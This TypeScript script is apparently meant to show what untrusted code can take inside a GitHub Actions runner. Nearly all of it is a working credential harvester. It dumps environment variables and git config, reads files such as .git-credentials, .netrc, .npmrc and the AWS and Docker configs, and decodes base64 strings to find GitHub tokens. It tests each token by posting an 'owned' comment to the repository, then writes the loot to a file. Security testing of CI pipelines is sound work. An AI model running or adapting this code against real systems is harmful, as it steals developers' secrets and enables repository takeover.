/** What a stranger's code does first: it takes whatever this process can read, and tries it. Argument: where the loot goes. */
import { execFileSync } from "node:child_process";
import { globSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";

const [, , loot = ""] = process.argv;
const read = (path: string) => {
  try {
    return readFileSync(path, "utf8");
  } catch {
    return "";
  }
};
const { HOME = "", GITHUB_WORKSPACE = ".", RUNNER_TEMP = "/nowhere" } = process.env;
const config = execFileSync("git", ["config", "--list", "--show-origin"], {
  cwd: GITHUB_WORKSPACE,
  encoding: "utf8",
});
const files = [
  ...globSync(".{docker,config,aws}/**/*", { cwd: HOME }).map((path) => join(HOME, path)),
  ...[".gitconfig", ".git-credentials", ".netrc", ".npmrc"].map((path) => join(HOME, path)),
  ...globSync("**/*", { cwd: RUNNER_TEMP }).map((path) => join(RUNNER_TEMP, path)),
  join(GITHUB_WORKSPACE, ".git/config"),
];
const taken = [JSON.stringify(process.env), config, ...files.map(read)].join("\n");
// Tokens lie in git's configuration as base64.
const decoded = [...taken.matchAll(/[A-Za-z0-9+/]{24,}={0,2}/g)].map(([word]) =>
  Buffer.from(word, "base64").toString(),
);
const everything = [taken, ...decoded].join("\n");
const tokens = new Set(everything.match(/\bgh[sp]_\w+/g) ?? []);
const answers = [];
for (const token of [undefined, ...tokens]) {
  const answer = await fetch(
    `${process.env.GITHUB_API_URL}/repos/${process.env.GITHUB_REPOSITORY}/issues/7/comments`,
    {
      method: "POST",
      body: JSON.stringify({ body: "owned" }),
      headers: token ? { authorization: `token ${token}` } : {},
    },
  );
  answers.push(answer.status);
}
writeFileSync(loot, JSON.stringify({ everything, answers }));
